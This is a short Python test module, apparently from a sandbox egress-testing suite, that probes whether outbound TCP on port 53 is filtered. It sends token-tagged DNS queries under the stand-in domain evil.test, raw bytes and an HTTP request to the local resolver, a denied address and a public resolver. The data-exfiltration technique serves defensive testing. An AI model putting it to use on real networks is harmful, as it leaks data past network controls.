# SPDX-License-Identifier: Apache-2.0
"""The same question over TCP, to the resolver and to anybody."""
import struct

import dns
import world

TITLE = "DNS over TCP, to the resolver and to any address"
THREAT = "15"


def attack(c):
    for name, server in (("resolver", c.resolver() or c.e), ("denied address", c.e), ("public resolver",
                         "9.9.9.9" if c.family == 4 else "2620:fe::fe")):
        with c.step(name) as token:
            q = dns.query(f"{token}.evil.test")
            c.send_address(server, 53, struct.pack("!H", len(q)) + q)
        with c.step(f"{name}, not DNS at all") as token:
            c.send_address(server, 53, b"\x00\x40" + token.encode() * 5)
        with c.step(f"{name}, http on port 53") as token:
            c.send_address(server, 53, f"GET /{token} HTTP/1.1\r\nHost: ok.test\r\n\r\n".encode())
